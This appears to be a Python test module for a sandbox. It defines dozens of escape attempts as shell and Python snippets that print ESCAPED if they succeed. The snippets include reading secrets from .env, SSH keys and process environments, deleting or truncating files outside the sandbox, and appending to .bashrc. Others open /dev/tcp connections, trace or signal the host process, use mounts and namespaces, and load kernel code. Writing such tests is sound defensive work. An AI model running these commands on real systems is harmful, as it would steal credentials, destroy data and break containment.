"""Ways out of a sandbox, each as a script that prints ESCAPED where only it can tell.

Each does no harm to the machine even if it gets out: it writes to places of the test, or sets what
is set already.
"""

# What a script may use: OUTSIDE SCRATCH SOCKET LETTERS ABSTRACT TCP UDP VICTIM SELF, see `kit.py`.
import os

_PYTHON = "python3 - <<'END'\nimport ctypes, errno, fcntl, os, socket, struct, sys, time\n{}\nEND"


def _python(text: str) -> str:
    return _PYTHON.format(text)


def _call(*numbers: str) -> str:
    """A system call by its numbers on both machines; any success is an escape."""
    return _python(
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "x86 = os.uname().machine == 'x86_64'\n"
        f"print('ESCAPED' if libc.syscall({', '.join(numbers)}) >= 0 else 'refused')"
    )


WRITING = {
    "write outside": "echo x >> $OUTSIDE/precious; echo x > $OUTSIDE/new",
    "write to the system": "for one in /etc /usr /usr/bin /var /opt /root /home /; do "
    "(: > $one/steersman-escaped) 2>/dev/null && echo ESCAPED; done",
    "delete outside": "rm -rf ${OUTSIDE:?}/precious ${OUTSIDE:?}; rm -rf ${OUTSIDE:?}/../home",
    "write through a link": "echo x > link; cp open.txt link; tee link < open.txt",
    "write through a planted link": "ln -s $OUTSIDE/precious in; echo x > in; rm in",
    "write through a link to a folder": "ln -s $OUTSIDE up; echo x > up/precious; rm up",
    "hard link in and write": "ln $OUTSIDE/precious in && echo x > in && echo ESCAPED; rm -f in",
    "move out": "echo x > mine; mv mine $OUTSIDE/mine; rm -f mine",
    "move in": "mv $OUTSIDE/precious .; rm -f precious",
    "truncate outside": "truncate -s 0 $OUTSIDE/precious; : > $OUTSIDE/precious",
    "change modes outside": "chmod 777 $OUTSIDE/precious $OUTSIDE",
    "change times outside": "touch -d @5 $OUTSIDE/precious",
    "change owners outside": "chown 1:1 $OUTSIDE/precious",
    "mark files outside": _python(
        "try:\n  os.setxattr(os.environ['OUTSIDE'] + '/precious', 'user.x', b'x')\n"
        "  print('ESCAPED')\nexcept OSError: pass"
    ),
    "reach the host's own folders": "ls $SCRATCH && echo ESCAPED; echo x > $SCRATCH/x",
    "write by a path of /proc": "echo x > /proc/self/root$OUTSIDE/precious;"
    "echo x > /proc/1/root$OUTSIDE/precious; echo x > /proc/self/cwd/../outside/precious",
    "use a shell's start file": "echo 'touch gotcha' >> ${OUTSIDE:?}/../home/.bashrc",
}
READING = {
    "cat a secret": "cat .env sub/key.pem ~/.ssh/id ~/.netrc 'secret link' $OUTSIDE/also",
    "read a secret with python": "python3 -c 'print(open(\".env\").read())';"
    "python3 -c 'import os; print(os.pread(os.open(\"sub/key.pem\", 0), 99, 0))'",
    "read a secret through a link": "ln -s .env a; cat a; ln -s $HOME/.ssh b; cat b/id; rm a b",
    "read a secret through a hard link": "ln .env a; cat a; ln -L 'secret link' b; cat b;rm -f a b",
    "read a copy of a secret": "cp .env a; cat a; cp -a sub c; cat c/key.pem; dd if=.env; "
    "cp -r ~/.ssh d; cat d/id; rm -rf a c d",
    "archive a secret": "tar cf - .env sub ~/.ssh ~/.netrc; tar chf - .; cpio -o <<< .env; rm -f x",
    "search for a secret": "grep -r s3cret . ~ $OUTSIDE; find . -type f -exec cat {} +",
    "move a secret's folder away": "mv sub away; cat away/key.pem; mv ~/.ssh x; cat x/id;"
    "test -e away && mv away sub; rm -rf x",
    "rename a secret's folder": _python(
        "for old, new in (('sub', 'away'), ('.env', 'env')):\n"
        "  try:\n    os.rename(old, new); print(open(new + '/key.pem').read())\n"
        "  except OSError as error: print(error)"
    ),
    "move a secret away": "mv .env a; cat a; mv sub/key.pem b; cat b; rm -f a b; true",
    "change a secret's mode": "chmod 644 .env; chmod 755 ~/.ssh; cat .env ~/.ssh/id",
    "map a secret": _python(
        "import mmap\ntry:\n  print(mmap.mmap(os.open('.env', os.O_RDONLY), 10).read())\n"
        "except OSError: pass"
    ),
    "open a secret without reading": _python(
        "number = os.open('.env', os.O_PATH)\n"
        "try: print(open(f'/proc/self/fd/{number}').read())\nexcept OSError: pass"
    ),
    "exchange a secret with a file": _python(
        "libc = ctypes.CDLL(None)\nopen('x', 'w').write('')\n"
        "libc.renameat2(-100, b'x', -100, b'.env', 2)\nprint(open('x').read())\nos.unlink('x')"
    ),
    "unmount a cover": "umount .env; umount -l ~/.ssh; cat .env ~/.ssh/id",
    "look for it in git": "git init -q /tmp/r; cp -r . /tmp/r/w; cd /tmp/r; git add -A; "
    "git show :w/.env :w/sub/key.pem",
}
PROCESSES = {
    "read the host's environment": "cat /proc/$VICTIM/environ /proc/$SELF/environ | tr '\\0' '\\n';"
    "cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
    "signal the host": "kill -STOP $VICTIM; kill -9 $VICTIM",
    "signal the host by a handle": _python(
        "libc = ctypes.CDLL(None)\nfd = libc.syscall(434, int(os.environ['VICTIM']), 0)\n"
        "print(libc.syscall(424, fd, 9, None, 0))"
    ),
    "trace the host": _call("101 if x86 else 117", "16", "int(os.environ['VICTIM'])", "0", "0"),
    "trace anybody": _call("101 if x86 else 117", "16", "os.getppid()", "0", "0"),
    "read somebody's memory": _call(
        "310 if x86 else 270", "os.getppid()", "None", "0", "None", "0", "0"
    ),
    "take somebody's file": _call("438", "libc.syscall(434, os.getppid(), 0)", "1", "0"),
    "open the host's memory": "head -c1 /proc/$VICTIM/mem; cat /proc/$VICTIM/maps && echo ESCAPED",
    "type into a terminal": _python(
        "try:\n  fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x'); print('ESCAPED')\n"
        "except OSError: pass\n"
        "try: fcntl.ioctl(1, 0x5412, b'x'); print('ESCAPED')\n"
        "except OSError as error: print(error.errno)"
    ),
    "find an open file of the host": _python(
        "for number in range(3, 1024):\n"
        "  try: os.fstat(number)\n  except OSError: continue\n"
        "  place = os.readlink(f'/proc/self/fd/{number}')\n"
        "  print('ESCAPED', number, place)"
    ),
}
REACHING = {
    "connect to a unix socket": _python(
        "try:\n  socket.socket(socket.AF_UNIX).connect(os.environ['SOCKET']); print('ESCAPED')\n"
        "except OSError as error: print(error)"
    ),
    "connect through a link": _python(
        "os.symlink(os.environ['SOCKET'], 's')\n"
        "try:\n  socket.socket(socket.AF_UNIX).connect('s'); print('ESCAPED')\n"
        "except OSError as error: print(error)\nos.unlink('s')"
    ),
    "connect to an abstract socket": _python(
        "try:\n  socket.socket(socket.AF_UNIX).connect('\\0' + os.environ['ABSTRACT'])\n"
        "  print('ESCAPED')\nexcept OSError as error: print(error)"
    ),
    "send to a unix socket": _python(
        "try:\n  s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "  s.sendto(b'x', os.environ['SOCKET']); print('ESCAPED')\n"
        "except OSError as error: print(error)"
    ),
    "send through a pair of sockets": _python(
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM):\n"
        "  try:\n    one, _ = socket.socketpair(socket.AF_UNIX, kind)\n"
        "    one.connect(os.environ['LETTERS']); one.send(b'x'); print('ESCAPED')\n"
        "  except OSError as error: print(error)"
    ),
    "connect by TCP": "echo x > /dev/tcp/127.0.0.1/$TCP && echo ESCAPED",
    "send by UDP": "echo x > /dev/udp/127.0.0.1/$UDP",
    "reach far away": "echo x > /dev/tcp/192.0.2.1/80 && echo ESCAPED; "
    "echo x > /dev/udp/192.0.2.1/53 && echo ESCAPED",
    "look up a name": "getent hosts example.com && echo ESCAPED",
    "reach the machine's host": _python(
        "try:\n  socket.socket(40, socket.SOCK_STREAM); print('ESCAPED')\n"
        "except OSError as error: print(error)"
    ),
    "make raw sockets": _python(
        "for family, kind in ((2, 3), (17, 3), (38, 5), (16, 3)):\n"
        "  try: socket.socket(family, kind, 15 if family == 16 else 0); print('ESCAPED', family)\n"
        "  except OSError as error: print(error)"
    ),
    "reach out by io_uring": _call("425", "8", "bytes(120)"),
}
POWERS = {
    "get powers": "grep -E 'Cap(Prm|Eff|Amb):.*[1-9a-f]' /proc/self/status && echo ESCAPED; "
    "sudo -n true && echo ESCAPED",
    "mount": "mkdir -p m; mount -o remount,rw / && echo ESCAPED; "
    "mount -t tmpfs x m && echo ESCAPED; mount --bind /tmp m && echo ESCAPED; "
    "umount m /tmp && echo ESCAPED; rmdir m",
    "mount the new way": _call("430", "b'tmpfs'", "0"),
    "copy a mount": _call("428", "-100", "b'/'", "1"),
    "get a new namespace": "for one in -U -m -n -p -i -u -C -r; do "
    "unshare $one true && echo ESCAPED; done; true",
    "clone into a namespace": _call("56 if x86 else 220", "0x10000000 | 17", "0", "0", "0", "0"),
    "clone the new way": _call("435", "struct.pack('11Q', 0x10000000, *[0] * 10)", "88"),
    "enter a namespace": "nsenter -t 1 -a true && echo ESCAPED; nsenter -t $VICTIM -m ls && "
    "echo ESCAPED",
    "change the root": "chroot / true && echo ESCAPED; mkdir -p r; chroot r true; rmdir r; true",
    "make a device": "mknod disk b 8 0 && echo ESCAPED; mknod null c 1 3 && echo ESCAPED; "
    "mknod /tmp/disk b 254 0 && echo ESCAPED; true",
    "use a device": "for one in /dev/*; do case $one in /dev/null|/dev/zero|/dev/full|/dev/tty|"
    "/dev/*random|/dev/ptmx|/dev/pts|/dev/shm|/dev/fd|/dev/std*|/dev/core) ;; "
    "*) head -c1 $one >/dev/null 2>&1 && echo ESCAPED $one;; esac; done",
    "turn a switch of the kernel": "for one in kernel/core_pattern kernel/hostname vm/swappiness; "
    "do here=$(cat /proc/sys/$one) && echo $here > /proc/sys/$one && echo ESCAPED; done; "
    "test -e /proc/sysrq-trigger && printf '' > /proc/sysrq-trigger && echo ESCAPED; true",
    "write to /sys": "find /sys -maxdepth 4 -type f -writable | head -3 | while read one; do "
    "here=$(cat $one) && echo $here > $one && echo ESCAPED $one; done; true",
    "join another control group": "find /sys/fs/cgroup -maxdepth 2 -name cgroup.procs | "
    "while read one; do echo $$ > $one && echo ESCAPED; done; true",
    "open a file by its handle": _call("304 if x86 else 265", "-100", "bytes(32)", "0"),
    "load code into the kernel": _call("321", "0", "bytes(120)", "120")
    if os.uname().machine == "x86_64"
    else _call("280", "0", "bytes(120)", "120"),
    "load a module": _call("175 if x86 else 105", "b''", "0", "b''"),
    "watch the kernel": _call("298 if x86 else 241", "bytes(128)", "0", "-1", "-1", "0"),
    "fault in user space": _call("323 if x86 else 282", "1"),
    "use somebody's keys": _call("250 if x86 else 219", "0", "-3", "0")
    + ";"
    + _call("248 if x86 else 217", "b'user'", "b'a'", "b'b'", "1", "-3"),
    "rename the machine": "hostname $(hostname) && echo ESCAPED; true",
    "set the clock": "date -s @$(date +%s) >/dev/null && echo ESCAPED; true",
    "read the kernel's log": _call("103 if x86 else 116", "10", "None", "0"),
}
ATTEMPTS = {**WRITING, **READING, **PROCESSES, **REACHING, **POWERS}
